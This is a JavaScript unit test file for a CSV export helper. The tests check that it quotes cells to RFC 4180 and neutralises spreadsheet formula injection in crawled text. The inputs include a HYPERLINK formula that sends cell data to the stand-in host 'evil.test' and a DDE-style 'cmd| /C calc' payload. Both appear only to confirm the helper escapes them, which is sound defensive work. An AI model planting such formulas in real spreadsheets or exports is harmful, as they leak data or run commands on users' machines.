import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { csvCell, extractedCsvLines } from '../../../shared/extracted.js';

describe('extracted records as CSV', () => {
  it('quotes commas, quotes and line breaks (RFC 4180)', () => {
    assert.equal(csvCell('plain'), 'plain');
    assert.equal(csvCell('a, b'), '"a, b"');
    assert.equal(csvCell('say "hi"'), '"say ""hi"""');
    assert.equal(csvCell('two\nlines'), '"two\nlines"');
  });

  it('keeps crawled text a spreadsheet would run as a formula as text', () => {
    assert.equal(csvCell('=HYPERLINK("http://evil.test/?"&A1,"Click")'), '"\'=HYPERLINK(""http://evil.test/?""&A1,""Click"")"');
    assert.equal(csvCell('@SUM(1+1)*cmd|\' /C calc\'!A0'), "'@SUM(1+1)*cmd|' /C calc'!A0");
    assert.equal(csvCell('+44 20 7946 0000'), "'+44 20 7946 0000");
    assert.equal(csvCell('-2+3'), "'-2+3");
    assert.equal(csvCell('\t=1'), "'\t=1");
    assert.equal(csvCell('\r=1'), '"\'\r=1"');
    assert.equal(csvCell('a=b'), 'a=b');
    const [header, row] = [...extractedCsvLines(['=x'], [{ url: 'http://a.test/', capture: '2026-01-01', duplicateOf: null, fields: { '=x': { value: '=1+1', confidence: 0.5 } } }])];
    assert.equal(header, "url,capture,duplicate_of,'=x,'=x_confidence\r\n");
    assert.equal(row, "http://a.test/,2026-01-01,,'=1+1,0.5\r\n");
  });
});
